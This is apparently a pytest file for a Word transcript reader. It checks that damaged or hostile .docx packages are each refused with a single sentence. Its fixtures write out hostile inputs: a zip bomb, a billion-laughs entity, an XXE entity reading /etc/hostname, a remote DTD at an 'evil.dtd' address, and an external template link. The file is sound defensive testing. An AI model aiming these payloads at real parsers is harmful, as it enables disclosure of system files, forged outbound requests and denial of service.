"""Packages that are damaged or hostile: one sentence each, and nothing of them reaches memory or network."""

from __future__ import annotations

import random
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from qualcode.domain.errors import Refusal
from qualcode.exchange.readers import read_transcript, word_package
from qualcode.exchange.readers.word_package import Package
from tests.exchange.word_files import document, paragraph, table, write_package, write_word

GOOD = document(paragraph("I: So?") + table(("C1", "Yes.")))


def refused(path: Path) -> str:
    """Return the sentence with which a file is refused."""
    with pytest.raises(Refusal) as caught:
        read_transcript(path)
    sentence = str(caught.value)
    assert path.name in sentence
    assert sentence.endswith(".")
    return sentence


@pytest.mark.parametrize("kept", [4, 30, 200, -1, -22, -60])
def test_truncated_package(tmp_path: Path, kept: int) -> None:
    data = write_package(tmp_path / "whole.docx", GOOD).read_bytes()
    broken = tmp_path / "broken.docx"
    broken.write_bytes(data[:kept])
    assert "damaged or not a Word file" in refused(broken)


def test_wrong_checksum(tmp_path: Path) -> None:
    path = write_package(tmp_path / "a.docx", GOOD, compression=zipfile.ZIP_STORED)
    path.write_bytes(path.read_bytes().replace(b"Yes.", b"No!!"))
    assert "cannot be unpacked: BadZipFile" in refused(path)


def test_part_that_is_no_xml(tmp_path: Path) -> None:
    sentence = refused(write_package(tmp_path / "a.docx", GOOD.replace("</w:body>", "")))
    assert "not well-formed, line 1" in sentence


def test_package_without_its_text(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("word/styles.xml", "<x/>")
    assert "it has no text part" in refused(path)


def test_bomb_is_refused_before_it_fills_the_memory(tmp_path: Path) -> None:
    """Some kilobytes that unpack to 64 megabytes: sizes are counted while they stream, whatever the header says."""
    path = tmp_path / "bomb.docx"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package,
        package.open("word/document.xml", "w") as part,
    ):
        for _ in range(64):
            part.write(b" " * 1_000_000)
    assert path.stat().st_size < 100_000
    tracemalloc.start()
    try:
        assert "unpacks to far more than it holds" in refused(path)
        assert tracemalloc.get_traced_memory()[1] < 25_000_000
    finally:
        tracemalloc.stop()


def test_parts_together_have_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(word_package, "MAX_TOTAL", 5500)
    body = paragraph("word " * 500)
    parts = {"header1.xml": "<x>" + "y" * 3000 + "</x>"}
    read_transcript(write_word(tmp_path / "a.docx", body))
    assert "unpacks to far more" in refused(write_word(tmp_path / "b.docx", body, parts=parts))


def test_too_many_entries(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("word/document.xml", GOOD)
        for number in range(word_package.MAX_ENTRIES):
            package.writestr(f"x{number}", "")
    assert "holds 10,001 files" in refused(path)


def test_packing_that_has_no_bounds(tmp_path: Path) -> None:
    path = write_package(tmp_path / "a.docx", GOOD, compression=zipfile.ZIP_LZMA)
    assert "packed in a way that no Office program uses" in refused(path)


def test_package_with_a_password_of_its_own(tmp_path: Path) -> None:
    path = write_package(tmp_path / "a.docx", GOOD)
    data = bytearray(path.read_bytes())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            data[at + flags] |= 1
            at = data.find(signature, at + 4)
    path.write_bytes(data)
    assert "locked by a password" in refused(path) or "damaged" in refused(path)


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FILE = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE l SYSTEM "http://192.0.2.1/evil.dtd">'


@pytest.mark.parametrize("doctype", [LAUGHS, FILE, REMOTE, "<!doctype l>"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_document_type_is_refused(tmp_path: Path, doctype: str, encoding: str) -> None:
    main = GOOD.replace("UTF-8", encoding).replace("?>", "?>" + doctype, 1).replace("Yes.", "&a;")
    sentence = refused(write_package(tmp_path / "a.docx", main.encode(encoding)))
    assert "document type" in sentence or "not well-formed" in sentence


def test_document_type_in_any_part_that_is_read(tmp_path: Path) -> None:
    parts = {"footnotes.xml": REMOTE + "<x/>"}
    body = paragraph("words", '<w:r><w:footnoteReference w:id="1"/></w:r>')
    assert "document type" in refused(write_word(tmp_path / "a.docx", body, parts=parts))


def test_document_type_behind_a_long_prologue(tmp_path: Path) -> None:
    main = GOOD.replace("?>", f"?><!--{'x' * 10_000}-->{LAUGHS}", 1).replace("Yes.", "&b;")
    assert "document type" in refused(write_package(tmp_path / "a.docx", main))


def test_nesting_without_end(tmp_path: Path) -> None:
    deep = "<w:x>" * 100_000 + "</w:x>" * 100_000
    assert "nested too deeply" in refused(write_word(tmp_path / "a.docx", deep))


def test_nesting_to_the_depth_that_is_allowed(tmp_path: Path) -> None:
    deep = "<w:ins>" * 240 + paragraph("deep down") + "</w:ins>" * 240
    assert read_transcript(write_word(tmp_path / "a.docx", deep)).text == "deep down"


def test_one_paragraph_of_more_than_ten_million_characters(tmp_path: Path) -> None:
    endless = random.Random(1).randbytes(5_100_000).hex()
    assert "a paragraph that is too long" in refused(write_word(tmp_path / "a.docx", paragraph(endless)))


def test_damaged_styles_lose_no_word(tmp_path: Path) -> None:
    body = paragraph("words", properties='<w:pStyle w:val="X"/>')
    assert read_transcript(write_word(tmp_path / "a.docx", body, parts={"styles.xml": "<broken"})).text == "words"


def test_names_clash_only_in_case_and_slashes(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("/Word\\Document.XML", GOOD)
    with Package(path) as package:
        assert "word/document.xml" in package
        assert package.names() == ["word/document.xml"]
        assert "missing.xml" not in package
        with pytest.raises(Refusal, match=r"it has no part missing\.xml"):
            package.read("missing.xml")


def test_external_relations_are_not_followed(tmp_path: Path) -> None:
    path = write_package(tmp_path / "a.docx", GOOD)
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        'TargetMode="External" Type="x/attachedTemplate" Target="http://192.0.2.1/t.dotm"/></Relationships>'
    )
    with zipfile.ZipFile(path, "a") as package, pytest.warns(UserWarning, match="Duplicate name"):
        package.writestr("word/_rels/document.xml.rels", relations)
    assert read_transcript(path).text == "I: So?\nC1\tYes."


@pytest.mark.parametrize("seed", range(4))
def test_mutated_documents_are_read_or_refused(tmp_path: Path, seed: int) -> None:
    """Bytes changed at random in the package, and in the XML below a sound package."""
    chance = random.Random(seed)
    whole = write_package(tmp_path / "whole.docx", GOOD, compression=zipfile.ZIP_STORED).read_bytes()
    path = tmp_path / "mutated.docx"
    for _ in range(150):
        if chance.random() < 0.5:
            data = bytearray(whole)
            for _ in range(chance.randint(1, 8)):
                data[chance.randrange(len(data))] = chance.randrange(256)
            path.write_bytes(data[: chance.choice([len(data), chance.randrange(len(data)) + 1])])
        else:
            main = bytearray(GOOD.encode())
            for _ in range(chance.randint(1, 4)):
                at = chance.randrange(len(main))
                main[at : at + chance.randint(0, 9)] = chance.choice(
                    [b"", b"<w:p>", b"</w:r>", b"\x00", b"<w:tc>", b"&"]
                )
            write_package(path, bytes(main))
        try:
            said = read_transcript(path).text
        except Refusal as refusal:
            said = str(refusal) if "mutated.docx" in str(refusal) else ""
        assert said
